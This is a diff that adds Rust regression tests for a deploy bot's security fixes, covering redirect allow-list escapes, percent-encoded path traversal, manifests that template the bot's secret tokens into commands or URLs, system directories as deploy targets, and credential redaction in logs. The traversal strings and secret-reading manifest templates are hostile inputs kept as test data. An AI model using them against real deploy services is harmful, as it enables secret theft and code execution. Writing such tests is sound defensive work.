@@ -1,0 +1,626 @@
+//! The deploy path as an attacker tries it (issue 9): redirects leaving the allow-list,
+//! encoded separators, a manifest asking for the bot's secrets, system roots as `dest`,
+//! report tokens and hosts, credentials in logs, Serf and Consul auth. Each test was
+//! written first and failed on the code before its fix.
+
+use crate::deploy::{Sandbox, agent};
+use crate::deploy_fanout::run_job;
+use crate::support::corral::Corral;
+use crate::support::files::Files;
+
+const TEST_TAR_SHA1: &str = "7b57db167410e46720b1d636ee6cb6c147efac3a";
+
+fn touch_manifest(marker: &std::path::Path) -> String {
+    format!("commands:\n  pre:\n    - touch {}\n", marker.display())
+}
+
+/// Hole 1: an allowed URL answering `302` to another origin made the bot run that
+/// origin's manifest. Every hop is now checked like the first URL.
+#[tokio::test]
+async fn bot_checks_every_redirect_hop_against_the_allow_list() {
+    let sb = Sandbox::new("redirect-bot");
+    let allowed = Files::start().await;
+    let evil = Files::start().await;
+    let marker = sb.dir.join("evil-ran");
+    evil.add("evil.yml", touch_manifest(&marker));
+    let cross = allowed.redirect("releases/m.yml", &format!("{}/evil.yml", evil.url));
+    // Same host, but out of the prefix.
+    allowed.add("other/evil.yml", touch_manifest(&marker));
+    let sideways = allowed.redirect("releases/side.yml", "/other/evil.yml");
+    // A hop that stays under the prefix is followed.
+    let good_marker = sb.dir.join("good-ran");
+    allowed.add("releases/new.yml", touch_manifest(&good_marker));
+    let inside = allowed.redirect("releases/old.yml", "/releases/new.yml");
+    let c =
+        Corral::start_with(&[("CORRAL_DEPLOY_ALLOW", &format!("{}/releases/", allowed.url))]).await;
+    for url in [&cross, &sideways] {
+        for flags in ["", " --dry-run"] {
+            let job = run_job(&c, &format!("deploy {url}{flags}")).await;
+            let summary = job.outcome.clone().unwrap().summary;
+            assert_eq!(job.status.to_string(), "failed", "{url}{flags}: {summary}");
+            assert!(
+                summary.contains("redirect") && summary.contains("not allowed"),
+                "{url}{flags}: {summary}"
+            );
+        }
+    }
+    assert!(!marker.exists(), "the redirected manifest ran");
+    assert!(evil.gets().is_empty(), "the other origin was fetched");
+    assert!(
+        !allowed.gets().iter().any(|(p, _)| p == "other/evil.yml"),
+        "a path outside the prefix was fetched"
+    );
+    let job = run_job(&c, &format!("deploy {inside}")).await;
+    assert_eq!(
+        job.status.to_string(),
+        "succeeded",
+        "{:?}",
+        job.outcome.map(|o| o.summary)
+    );
+    assert!(good_marker.exists());
+}
+
+/// Hole 1, the agent: with `CORRAL_DEPLOY_ALLOW` set on a host, a forged event's
+/// manifest and every hop of its manifest and its source stay under the prefixes;
+/// without it, the agent follows redirects like stretcher.
+#[tokio::test]
+async fn agent_honours_the_allow_list_on_every_hop() {
+    let sb = Sandbox::new("redirect-agent");
+    let allowed = Files::start().await;
+    let evil = Files::start().await;
+    let marker = sb.dir.join("evil-ran");
+    evil.add("evil.yml", touch_manifest(&marker));
+    let manifest_hop = allowed.redirect("releases/m.yml", &format!("{}/evil.yml", evil.url));
+    let prefix = format!("{}/releases/", allowed.url);
+    let allow = [("CORRAL_DEPLOY_ALLOW", prefix.as_str())];
+
+    let r = agent(&sb.dir, &manifest_hop, &[], &allow).await;
+    assert_eq!(r.code, 1, "{}", r.stderr);
+    assert!(r.stderr.contains("not allowed"), "{}", r.stderr);
+    assert!(!marker.exists());
+    assert!(evil.gets().is_empty());
+    // The first URL itself.
+    let r = agent(&sb.dir, &format!("{}/evil.yml", evil.url), &[], &allow).await;
+    assert_eq!(r.code, 1);
+    assert!(r.stderr.contains("not allowed"), "{}", r.stderr);
+    assert!(evil.gets().is_empty());
+
+    // A source whose hop leaves the prefix: nothing reaches dest.
+    let tar = std::fs::read(sb.dir.join("testdata/test.tar")).unwrap();
+    evil.add("test.tar", tar);
+    let src = allowed.redirect("releases/test.tar", &format!("{}/test.tar", evil.url));
+    allowed.add(
+        "releases/app.yml",
+        format!(
+            "src: {src}\nchecksum: {TEST_TAR_SHA1}\ndest: {}\n",
+            sb.dest.display()
+        ),
+    );
+    let app = format!("{}/releases/app.yml", allowed.url);
+    let r = agent(&sb.dir, &app, &[], &allow).await;
+    assert_eq!(r.code, 1, "{}", r.stderr);
+    assert!(r.stderr.contains("not allowed"), "{}", r.stderr);
+    assert!(evil.gets().is_empty());
+    assert_eq!(std::fs::read_dir(&sb.dest).unwrap().count(), 0);
+
+    // Without the setting: stretcher's behaviour, the checksum pins the content.
+    let r = agent(&sb.dir, &app, &[], &[]).await;
+    assert_eq!(r.code, 0, "{}", r.stderr);
+    assert_eq!(sb.read("dest/foo/baz").as_deref(), Some("baz\n"));
+    let r = agent(&sb.dir, &manifest_hop, &[], &[]).await;
+    assert_eq!(r.code, 0, "{}", r.stderr);
+    assert!(marker.exists());
+}
+
+/// Hole 1: credentials never follow a redirect to another origin.
+#[tokio::test]
+async fn credentials_stay_with_their_origin() {
+    let sb = Sandbox::new("redirect-creds");
+    let first = Files::start().await;
+    let other = Files::start().await;
+    let marker = sb.dir.join("ran");
+    other.add("m.yml", touch_manifest(&marker));
+    first.redirect("m.yml", &format!("{}/m.yml", other.url));
+    let with_creds = first.url.replace("http://", "http://deployer:hunter2@") + "/m.yml";
+    let r = agent(&sb.dir, &with_creds, &[], &[]).await;
+    assert_eq!(r.code, 0, "{}", r.stderr);
+    assert!(marker.exists());
+    let sent = first.gets();
+    assert!(
+        sent[0]
+            .1
+            .as_deref()
+            .is_some_and(|a| a.starts_with("Basic ")),
+        "{sent:?}"
+    );
+    assert_eq!(other.gets(), vec![("m.yml".to_string(), None)]);
+}
+
+/// Hole 2: `allowed()` compared the still-encoded path and `to_file_path()` decoded `%2F`
+/// afterwards, so `file:///…/allowed/..%2F..%2Fother%2Fevil.yml` ran a manifest from
+/// outside the prefix. Paths are compared decoded, segment by segment, and encoded
+/// separators, NULs and dot segments are refused in every encoding.
+#[tokio::test]
+async fn encoded_separators_do_not_escape_a_prefix() {
+    let sb = Sandbox::new("encoded");
+    std::fs::create_dir_all(sb.dir.join("allowed")).unwrap();
+    std::fs::create_dir_all(sb.dir.join("other")).unwrap();
+    let marker = sb.dir.join("evil-ran");
+    std::fs::write(sb.dir.join("other/evil.yml"), touch_manifest(&marker)).unwrap();
+    let prefix = format!("file://{}/allowed/", sb.dir.display());
+    let c = Corral::start_with(&[("CORRAL_DEPLOY_ALLOW", &prefix)]).await;
+    let tails = [
+        "..%2Fother%2Fevil.yml",
+        "..%2fother%2fevil.yml",
+        "%2E%2E/other/evil.yml",
+        "%2e%2E%2Fother%2Fevil.yml",
+        "x%2F..%2F..%2Fother%2Fevil.yml",
+        "..%5Cother%5Cevil.yml",
+        "..%252Fother%252Fevil.yml",
+    ];
+    for tail in tails {
+        let url = format!("{prefix}{tail}");
+        let (s, v) = crate::deploy_fanout::command(&c, &format!("deploy {url}")).await;
+        assert_eq!(s, 409, "{url}: {v}");
+        assert!(
+            v["error"].as_str().unwrap().contains("CORRAL_DEPLOY_ALLOW"),
+            "{v}"
+        );
+        let r = agent(&sb.dir, &url, &[], &[("CORRAL_DEPLOY_ALLOW", &prefix)]).await;
+        assert_eq!(r.code, 1, "{url}: {}", r.stderr);
+        assert!(r.stderr.contains("not allowed"), "{url}: {}", r.stderr);
+    }
+    // A src escaping the same way, in an allowed manifest.
+    let src = format!("{prefix}..%2F..%2Ftestdata%2Ftest.tar");
+    std::fs::write(
+        sb.dir.join("allowed/m.yml"),
+        format!(
+            "src: {src}\nchecksum: {TEST_TAR_SHA1}\ndest: {}\n",
+            sb.dest.display()
+        ),
+    )
+    .unwrap();
+    let job = run_job(&c, &format!("deploy {prefix}m.yml")).await;
+    let summary = job.outcome.unwrap().summary;
+    assert!(summary.contains("is not allowed"), "{summary}");
+    // An http prefix: the server never sees the request.
+    let files = Files::start().await;
+    files.add("other/evil.yml", touch_manifest(&marker));
+    let http_prefix = format!("{}/releases/", files.url);
+    for tail in tails {
+        let url = format!("{http_prefix}{tail}");
+        let r = agent(&sb.dir, &url, &[], &[("CORRAL_DEPLOY_ALLOW", &http_prefix)]).await;
+        assert_eq!(r.code, 1, "{url}: {}", r.stderr);
+    }
+    assert!(files.gets().is_empty(), "{:?}", files.gets());
+    assert!(!marker.exists());
+    assert_eq!(std::fs::read_dir(&sb.dest).unwrap().count(), 0);
+}
+
+/// The bot's own secrets, set in the real binary's environment.
+const BOT_SECRETS: [(&str, &str); 5] = [
+    ("SLACK_BOT_TOKEN", "xoxb-SECRET-bot-token-4711"),
+    ("SLACK_SIGNING_SECRET", "SECRET-signing-0815"),
+    ("RANCHER_ACCESS_KEY", "SECRET-access-key-1234"),
+    ("RANCHER_SECRET_KEY", "SECRET-rancher-key-9999"),
+    ("CORRAL_API_TOKEN", "SECRET-api-token-4242"),
+];
+
+/// `corral serve` as a child process with [`BOT_SECRETS`] in its environment, its log
+/// (debug level) in a file.
+struct Bot {
+    child: std::process::Child,
+    url: String,
+    log: std::path::PathBuf,
+    db: std::path::PathBuf,
+}
+
+impl Drop for Bot {
+    fn drop(&mut self) {
+        let _ = self.child.kill();
+        let _ = self.child.wait();
+    }
+}
+
+impl Bot {
+    async fn start(
+        dir: &std::path::Path,
+        slack: &crate::support::fake_slack::FakeSlack,
+        extra: &[(&str, &str)],
+    ) -> Bot {
+        let port = std::net::TcpListener::bind("127.0.0.1:0")
+            .unwrap()
+            .local_addr()
+            .unwrap()
+            .port();
+        let log = dir.join("bot.log");
+        let db = dir.join("bot.db");
+        let child = std::process::Command::new(env!("CARGO_BIN_EXE_corral"))
+            .arg("serve")
+            .current_dir(dir)
+            .env_clear()
+            .env("PATH", std::env::var("PATH").unwrap_or_default())
+            .env("HOME", dir)
+            .env("CORRAL_LOG", "debug")
+            .env("CORRAL_DATABASE_URL", format!("sqlite://{}", db.display()))
+            .env("SLACK_API_URL", &slack.api_url)
+            .env("CORRAL_CHANNEL", "C0RELEASES")
+            .env("CORRAL_LISTEN", format!("127.0.0.1:{port}"))
+            .envs(BOT_SECRETS)
+            .envs(extra.iter().copied())
+            .stdout(std::fs::File::create(&log).unwrap())
+            .stderr(std::fs::File::create(dir.join("bot.err")).unwrap())
+            .spawn()
+            .unwrap();
+        let bot = Bot {
+            child,
+            url: format!("http://127.0.0.1:{port}"),
+            log,
+            db,
+        };
+        let http = corral::http_client().unwrap();
+        for _ in 0..200 {
+            if let Ok(r) = http.get(format!("{}/readyz", bot.url)).send().await
+                && r.status() == 200
+            {
+                return bot;
+            }
+            tokio::time::sleep(std::time::Duration::from_millis(25)).await;
+        }
+        panic!("corral serve did not become ready");
+    }
+
+    /// Runs a command to its end; returns the job record as the API shows it.
+    async fn job(&self, text: &str) -> serde_json::Value {
+        let http = corral::http_client().unwrap();
+        let v: serde_json::Value = http
+            .post(format!("{}/api/v1/commands", self.url))
+            .bearer_auth(BOT_SECRETS[4].1)
+            .json(&serde_json::json!({ "text": text, "user": "U0DEPLOYER" }))
+            .send()
+            .await
+            .unwrap()
+            .json()
+            .await
+            .unwrap();
+        let Some(id) = v["job"]["id"].as_i64() else {
+            return v;
+        };
+        for _ in 0..600 {
+            let job: serde_json::Value = http
+                .get(format!("{}/api/v1/jobs/{id}", self.url))
+                .bearer_auth(BOT_SECRETS[4].1)
+                .send()
+                .await
+                .unwrap()
+                .json()
+                .await
+                .unwrap();
+            if !matches!(job["status"].as_str(), Some("queued" | "running")) {
+                return job;
+            }
+            tokio::time::sleep(std::time::Duration::from_millis(50)).await;
+        }
+        panic!("job {id} did not end");
+    }
+
+    /// Everything the bot wrote: its log, its database, and stderr.
+    fn written(&self) -> String {
+        let mut all = std::fs::read_to_string(&self.log).unwrap_or_default();
+        all.push_str(
+            &std::fs::read_to_string(self.log.with_file_name("bot.err")).unwrap_or_default(),
+        );
+        for f in [self.db.clone(), self.db.with_extension("db-wal")] {
+            all.push_str(&String::from_utf8_lossy(
+                &std::fs::read(f).unwrap_or_default(),
+            ));
+        }
+        all
+    }
+}
+
+/// Hole 4: templates were expanded with the bot's environment when it checked, planned or
+/// ran a manifest, so its tokens reached the channel and the job. The bot now keeps every
+/// template action opaque, refuses a templated `src`/`checksum`/`dest`, and runs
+/// `--target local` in a child `corral agent` whose environment holds none of its
+/// secrets, only what `CORRAL_DEPLOY_ENV` names.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_manifest_never_gets_the_bots_secrets() {
+    let sb = Sandbox::new("secrets");
+    let slack = crate::support::fake_slack::FakeSlack::start().await;
+    let prefix = format!("file://{}/", sb.dir.display());
+    let bot = Bot::start(
+        &sb.dir,
+        &slack,
+        &[
+            ("CORRAL_DEPLOY_ALLOW", &prefix),
+            ("CORRAL_DEPLOY_HOSTS", "web-1,web-2"),
+            ("CORRAL_DEPLOY_ENV", "APP_COLOR"),
+            ("APP_COLOR", "blue"),
+        ],
+    )
+    .await;
+    let mut asks = String::new();
+    for (name, _) in BOT_SECRETS {
+        asks.push_str(&format!(" {name}={{{{ env \"{name}\" \"unset\" }}}}"));
+    }
+    let write = |name: &str, text: String| {
+        std::fs::write(sb.dir.join(name), text).unwrap();
+        format!("{prefix}{name}")
+    };
+    let run_here = write(
+        "local.yml",
+        format!(
+            "commands:\n  pre:\n    - 'echo asks{asks}'\n    - 'echo color={{{{ env \"APP_COLOR\" \"none\" }}}}'\n    - env\n    - exit 3\n"
+        ),
+    );
+    let must = write(
+        "must.yml",
+        "commands:\n  pre:\n    - echo '{{ must_env \"SLACK_BOT_TOKEN\" }}'\n".to_string(),
+    );
+    let templated_dest = write(
+        "dest.yml",
+        format!(
+            "src: {prefix}testdata/test.tar\nchecksum: {TEST_TAR_SHA1}\ndest: '/srv/{{{{ must_env \"SLACK_BOT_TOKEN\" }}}}'\n"
+        ),
+    );
+    let templated_src = write(
+        "src.yml",
+        format!(
+            "src: 'https://x.example/{{{{ env \"RANCHER_SECRET_KEY\" }}}}.tar'\nchecksum: {TEST_TAR_SHA1}\ndest: /srv/app\n"
+        ),
+    );
+    let templated_sum = write(
+        "sum.yml",
+        format!(
+            "src: {prefix}testdata/test.tar\nchecksum: '{{{{ env \"SLACK_SIGNING_SECRET\" }}}}'\ndest: /srv/app\n"
+        ),
+    );
+
+    let job = bot.job(&format!("deploy {run_here}")).await;
+    assert_eq!(job["status"], "failed", "{job}");
+    let reason = job["outcome"]["detail"]["log_tail"].as_str().unwrap_or("");
+    assert!(
+        reason.contains("color=blue"),
+        "CORRAL_DEPLOY_ENV passes: {job}"
+    );
+    assert!(reason.contains("SLACK_BOT_TOKEN=unset"), "{job}");
+    let job = bot.job(&format!("deploy {must}")).await;
+    assert_eq!(job["status"], "failed", "{job}");
+    for (url, field) in [
+        (&templated_dest, "dest"),
+        (&templated_src, "src"),
+        (&templated_sum, "checksum"),
+    ] {
+        for flags in [
+            "",
+            " --dry-run",
+            " --target serf --dry-run",
+            " --target consul --dry-run",
+        ] {
+            let job = bot.job(&format!("deploy {url}{flags}")).await;
+            let summary = job["outcome"]["summary"].as_str().unwrap_or("");
+            assert_eq!(job["status"], "failed", "{url}{flags}: {job}");
+            assert!(
+                summary.contains(&format!("{field}: is templated")),
+                "{url}{flags}: {summary}"
+            );
+        }
+    }
+    // A plan of a fanned-out manifest keeps its templates to the hosts.
+    let fan = write(
+        "fan.yml",
+        "commands:\n  pre:\n    - echo '{{ must_env \"CORRAL_API_TOKEN\" }} {{ env \"SLACK_BOT_TOKEN\" }}'\n".to_string(),
+    );
+    let job = bot
+        .job(&format!("deploy {fan} --target consul --dry-run"))
+        .await;
+    assert_eq!(job["status"], "succeeded", "{job}");
+
+    slack
+        .wait_for(10, |calls| {
+            calls
+                .iter()
+                .filter(|c| c.text().contains("Dry run"))
+                .count()
+                >= 1
+        })
+        .await;
+    tokio::time::sleep(std::time::Duration::from_millis(500)).await;
+    let jobs: String = corral::http_client()
+        .unwrap()
+        .get(format!("{}/api/v1/jobs", bot.url))
+        .bearer_auth(BOT_SECRETS[4].1)
+        .send()
+        .await
+        .unwrap()
+        .text()
+        .await
+        .unwrap();
+    let said: Vec<String> = slack.calls().iter().map(|c| c.body.to_string()).collect();
+    let written = bot.written();
+    assert!(jobs.contains("color=blue"), "{jobs}");
+    for (name, secret) in BOT_SECRETS {
+        assert!(!jobs.contains(secret), "{name} in a job record: {jobs}");
+        assert!(
+            !said.iter().any(|m| m.contains(secret)),
+            "{name} in a Slack message: {said:?}"
+        );
+        assert!(
+            !written.contains(secret),
+            "{name} in the bot's log or database"
+        );
+    }
+}
+
+/// Hole 4: `CORRAL_DEPLOY_ENV` names what a local deploy gets; corral's own settings and
+/// secrets cannot be named.
+#[test]
+fn deploy_env_refuses_the_bots_own_names() {
+    use corral::config::{Config, Env};
+    for name in [
+        "SLACK_BOT_TOKEN",
+        "slack_signing_secret",
+        "RANCHER_SECRET_KEY",
+        "CATTLE_ACCESS_KEY",
+        "CORRAL_API_TOKEN",
+        "CORRAL_DATABASE_URL",
+        "API_KEY",
+        "CONSUL_HTTP_TOKEN",
+        "SERF_RPC_AUTH",
+        "1BAD",
+        "A-B",
+    ] {
+        let e = Config::from_env(&Env::from_pairs([("CORRAL_DEPLOY_ENV", name)]))
+            .map(|_| ())
+            .unwrap_err()
+            .to_string();
+        assert!(e.starts_with("CORRAL_DEPLOY_ENV: "), "{name}: {e}");
+    }
+    let c = Config::from_env(&Env::from_pairs([
+        ("CORRAL_DEPLOY_ENV", "APP_COLOR, AWS_REGION,UNSET_ONE"),
+        ("APP_COLOR", "blue"),
+        ("AWS_REGION", "eu-west-1"),
+    ]))
+    .unwrap();
+    let names: Vec<&str> = c.deploy.env.iter().map(|(n, _)| n.as_str()).collect();
+    assert_eq!(names, ["APP_COLOR", "AWS_REGION"]);
+    assert!(!format!("{:?}", c.deploy).contains("eu-west-1"));
+}
+
+/// Hole 9: `dest: /` and other system roots passed validation, and so did a `dest`
+/// containing the agent's own working directory. The source here does not exist, so the
+/// code before the fix failed later, at the fetch, without touching anything.
+#[tokio::test]
+async fn system_roots_and_the_agents_own_directories_are_no_dest() {
+    let sb = Sandbox::new("dest-roots");
+    let state_dir = sb.dir.join("state");
+    let state = state_dir.join("applied");
+    let state_s = state.to_string_lossy().into_owned();
+    std::os::unix::fs::symlink("/", sb.dir.join("to-root")).unwrap();
+    let cases = [
+        ("/".to_string(), "system directory"),
+        ("/usr".to_string(), "system directory"),
+        ("/etc/".to_string(), "system directory"),
+        (format!("{}/to-root", sb.dir.display()), "system directory"),
+        (sb.dir.display().to_string(), "agent's own directory"),
+        (state_dir.display().to_string(), "agent's own directory"),
+        (format!("{}/x/..", sb.dir.display()), "`..`"),
+    ];
+    for (dest, needle) in &cases {
+        let url = sb.write_manifest(&format!(
+            "src: file:///nonexistent/app.tar\nchecksum: {TEST_TAR_SHA1}\ndest: '{dest}'\n"
+        ));
+        let r = agent(&sb.dir, &url, &[], &[("CORRAL_AGENT_STATE", &state_s)]).await;
+        assert_eq!(r.code, 1, "{dest}: {}", r.stderr);
+        assert!(r.stderr.contains(needle), "{dest}: {}", r.stderr);
+        assert!(
+            !r.stderr.contains("Loading URL file:///nonexistent"),
+            "{dest}: checked before any fetch"
+        );
+    }
+    // The bot refuses the system roots when it plans, whatever the target.
+    let c = Corral::start_with(&[
+        (
+            "CORRAL_DEPLOY_ALLOW",
+            &format!("file://{}/", sb.dir.display()),
+        ),
+        ("CORRAL_DEPLOY_HOSTS", "web-1"),
+    ])
+    .await;
+    for dest in ["/", "/var/lib"] {
+        let url = sb.write_manifest(&format!(
+            "src: file://{}/nonexistent.tar\nchecksum: {TEST_TAR_SHA1}\ndest: {dest}\n",
+            sb.dir.display()
+        ));
+        for flags in [" --dry-run", " --target serf --dry-run"] {
+            let job = run_job(&c, &format!("deploy {url}{flags}")).await;
+            let summary = job.outcome.unwrap().summary;
+            assert!(
+                summary.contains("system directory"),
+                "{dest}{flags}: {summary}"
+            );
+        }
+    }
+}
+
+/// Hole 9: hosts reported with the full API token. `CORRAL_REPORT_TOKEN` is accepted on
+/// the report endpoint and nowhere else, and a host the job does not expect is refused.
+#[tokio::test]
+async fn reports_have_their_own_token_and_expected_hosts() {
+    let c = Corral::start_with(&[
+        ("CORRAL_REPORT_TOKEN", "report-only-token"),
+        ("CORRAL_DEPLOY_HOSTS", "web-1,web-2"),
+    ])
+    .await;
+    let job = crate::deploy::deploy_job(&c).await;
+    let post = |token: &'static str, host: &'static str| {
+        let req = c
+            .http
+            .post(format!("{}/api/v1/deploys/{job}/reports", c.url))
+            .bearer_auth(token)
+            .body(format!(
+                r#"{{"host":"{host}","status":"succeeded","duration_ms":5,"log_tail":"x"}}"#
+            ));
+        async move { req.send().await.unwrap().status().as_u16() }
+    };
+    assert_eq!(post("report-only-token", "web-1").await, 201);
+    assert_eq!(post("report-only-token", "intruder").await, 403);
+    assert_eq!(post("wrong", "web-2").await, 401);
+    // The API token still works there (agents not yet moved to the report token).
+    assert_eq!(post(crate::support::corral::TOKEN, "web-2").await, 201);
+    // Nowhere else.
+    for (method, path) in [("POST", "/api/v1/commands"), ("GET", "/api/v1/jobs")] {
+        let resp = c
+            .http
+            .request(method.parse().unwrap(), format!("{}{path}", c.url))
+            .bearer_auth("report-only-token")
+            .json(&serde_json::json!({"text": "release status", "user": "U0"}))
+            .send()
+            .await
+            .unwrap();
+        assert_eq!(resp.status().as_u16(), 401, "{path}");
+    }
+}
+
+/// Hole 9: URLs with credentials and expanded `must_env` values appeared in the agent's
+/// log and in the tail it reports.
+#[tokio::test]
+async fn agent_logs_and_reports_redact_credentials_and_must_env_values() {
+    let c = Corral::start().await;
+    let job = crate::deploy::deploy_job(&c).await;
+    let sb = Sandbox::new("redact");
+    let files = Files::start().await;
+    files.add(
+        "m.yml",
+        "commands:\n  pre:\n    - echo using {{ must_env \"DEPLOY_PASSWORD\" }}\n    - exit 1\n",
+    );
+    let url = files
+        .url
+        .replace("http://", "http://deployer:hunter2-url-pw@")
+        + "/m.yml";
+    let r = agent(
+        &sb.dir,
+        &format!("{url}#corral-job={job}"),
+        &["--report-url", &c.url, "--host", "web-1"],
+        &[
+            ("CORRAL_REPORT_TOKEN", crate::support::corral::TOKEN),
+            ("DEPLOY_PASSWORD", "pw-from-must-env-77"),
+        ],
+    )
+    .await;
+    assert_eq!(r.code, 1, "{}", r.stderr);
+    assert!(r.stderr.contains("Reported failed"), "{}", r.stderr);
+    let reports = c.app.store.deploy_reports(job).await.unwrap();
+    let report = format!("{:?}", reports);
+    for secret in ["hunter2-url-pw", "pw-from-must-env-77"] {
+        assert!(
+            !r.stderr.contains(secret),
+            "{secret} in the log: {}",
+            r.stderr
+        );
+        assert!(!report.contains(secret), "{secret} in the report: {report}");
+    }
+    assert!(r.stderr.contains("deployer:***@"), "{}", r.stderr);
+    assert!(report.contains("using ***"), "{report}");
+}
